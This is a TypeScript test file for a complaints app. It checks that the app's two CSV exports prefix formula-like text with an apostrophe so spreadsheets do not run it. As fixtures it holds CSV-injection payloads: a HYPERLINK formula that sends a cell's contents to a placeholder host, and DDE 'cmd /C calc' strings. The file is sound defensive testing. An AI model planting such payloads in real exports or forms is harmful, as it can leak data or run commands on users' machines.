/**
 * CSV injection in every CSV the app writes: complaints.csv in a packet and the SP4N-LAPOR!
 * export. A hostile title, location, office or complainant's name is written with a leading
 * apostrophe, so a spreadsheet shows it as text instead of running it; a number the app writes
 * as a number (the satisfaction rating) stays a number. A property over generated complaints:
 * no cell of either file begins with a formula trigger.
 */
import { unzipSync } from 'fflate';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HOSTILE_TIMEOUT_MS, hostileRuns } from '../testing/hostile-input.fixtures';
import { buildPacketZip } from './build-packet';
import { complaintRows } from './complaint-rows';
import { complaintsCsv, csvField, csvText } from './complaints-csv';
import { laporCsv, laporRecords } from './lapor-export';
import { computeIndicators } from '../indicators/compute-indicators';
import {
  CREATED_AT,
  PERIOD,
  PacketCase,
  SETTINGS,
  TIME_ZONE,
  UNIT_CODE,
  UNIT_NAME,
  packetFixture,
  wib,
} from './packet.fixtures';

/** The cells of an RFC 4180 CSV text (quotes undone), the byte-order mark dropped. */
function csvCells(bytes: Uint8Array): string[][] {
  const text = new TextDecoder('utf-8', { ignoreBOM: false }).decode(bytes);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text.charAt(i);
    if (quoted) {
      if (char === '"' && text.charAt(i + 1) === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text.charAt(i + 1) === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Whether a spreadsheet would run `cell`: checked here apart from the guard under test. */
function runsAsFormula(cell: string): boolean {
  if (cell.startsWith('\t') || cell.startsWith('\r') || cell.startsWith('\n')) return true;
  return ['=', '+', '-', '@'].includes(cell.trimStart().charAt(0));
}

const HOSTILE = {
  title: '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
  location: "  +cmd|' /C calc'!A0",
  targetOffice: '\t=1+1',
  chronology: '-2+3',
  name: "@SUM(1+1)*cmd|' /C calc'!A0",
} as const;

function hostileCase(): PacketCase {
  return new PacketCase({
    sequence: 900,
    receivedAt: wib('2026-03-02'),
    privacyMode: 'named',
    channel: 'walk-in',
    category: 'infrastructure',
    title: HOSTILE.title,
    chronology: HOSTILE.chronology,
    location: HOSTILE.location,
    targetOffice: HOSTILE.targetOffice,
    reporter: { name: HOSTILE.name, nik: '', phone: '081234567890', email: '', address: '' },
  });
}

describe('complaints.csv in a packet', { timeout: 60_000 }, () => {
  it('writes a hostile title, chronology, location and office with a leading apostrophe', async () => {
    const fixture = packetFixture();
    const hostile = hostileCase();
    const complaints = [...fixture.complaints, hostile.complaint];
    const events = [...fixture.events, ...hostile.events];
    const indicators = computeIndicators({
      complaints,
      events,
      unit: { code: UNIT_CODE, name: UNIT_NAME },
      settings: SETTINGS,
      period: PERIOD,
      computedAt: CREATED_AT,
    });
    const zip = await buildPacketZip({ ...fixture.input, complaints, events, indicators });
    const cells = csvCells(unzipSync(zip)['complaints.csv'] ?? new Uint8Array()).flat();
    for (const text of [HOSTILE.title, HOSTILE.chronology, HOSTILE.location, HOSTILE.targetOffice]) {
      expect(cells).toContain(`'${text}`);
    }
    expect(cells.filter(runsAsFormula)).toEqual([]);
  });

  it('writes the app’s own numbers as numbers, a negative one included, and text that looks like one as text', () => {
    expect(csvField(4)).toBe('4');
    expect(csvField(-3)).toBe('-3');
    expect(csvField('-3')).toBe("'-3");
    expect(csvText([['Judul', 5, '+5']])).toBe("Judul,5,'+5\r\n");
  });
});

describe('the SP4N-LAPOR! export', { timeout: 60_000 }, () => {
  it('writes a hostile title, location, office and complainant’s name with a leading apostrophe', () => {
    const hostile = hostileCase();
    const records = laporRecords({
      complaints: [hostile.complaint],
      events: hostile.events,
      reporters: hostile.reporter ? [hostile.reporter] : [],
      timeZone: TIME_ZONE,
      includeIdentity: true,
    });
    const cells = csvCells(laporCsv(records, true)).flat();
    for (const text of [
      HOSTILE.title,
      HOSTILE.chronology,
      HOSTILE.location,
      HOSTILE.targetOffice,
      HOSTILE.name,
    ]) {
      expect(cells).toContain(`'${text}`);
    }
    expect(cells.filter(runsAsFormula)).toEqual([]);
  });
});

/** Text a person could type that starts like a formula, possibly after spaces. */
const typed = fc
  .tuple(
    fc.constantFrom('', ' ', '  ', '\u00a0', '\u3000', '\t', '\r', '\n', '\r\n'),
    fc.constantFrom('=', '+', '-', '@', '', 'a', '"', ','),
    fc.string({ maxLength: 20 }),
  )
  .map((parts) => parts.join(''));
const nonBlank = typed.map((text) => (text.trim() === '' ? `${text}x` : text));

let sequence = 1_000;

describe('no cell of any CSV begins with a formula trigger', { timeout: 60_000 }, () => {
  it(
    'holds for generated complaints in complaints.csv and the LAPOR! export (10,000 complaints)',
    () => {
      fc.assert(
        fc.property(
          fc.record({
            title: nonBlank,
            chronology: nonBlank,
            location: typed,
            office: typed,
            name: nonBlank,
          }),
          ({ title, chronology, location, office, name }) => {
            sequence += 1;
            const complaint = new PacketCase({
              sequence,
              receivedAt: wib('2026-03-02'),
              privacyMode: 'named',
              channel: 'walk-in',
              category: 'infrastructure',
              title: title.slice(0, 150),
              chronology,
              location,
              targetOffice: office,
              reporter: { name: name.slice(0, 150), nik: '', phone: '081234567890', email: '', address: '' },
            });
            const packetCsv = complaintsCsv(
              complaintRows({
                complaints: [complaint.complaint],
                events: complaint.events,
                period: PERIOD,
                timeZone: TIME_ZONE,
              }),
            );
            const records = laporRecords({
              complaints: [complaint.complaint],
              events: complaint.events,
              reporters: complaint.reporter ? [complaint.reporter] : [],
              timeZone: TIME_ZONE,
              includeIdentity: true,
            });
            for (const csv of [packetCsv, laporCsv(records, true)]) {
              expect(csvCells(csv).flat().filter(runsAsFormula)).toEqual([]);
            }
          },
        ),
        hostileRuns,
      );
    },
    HOSTILE_TIMEOUT_MS,
  );
});
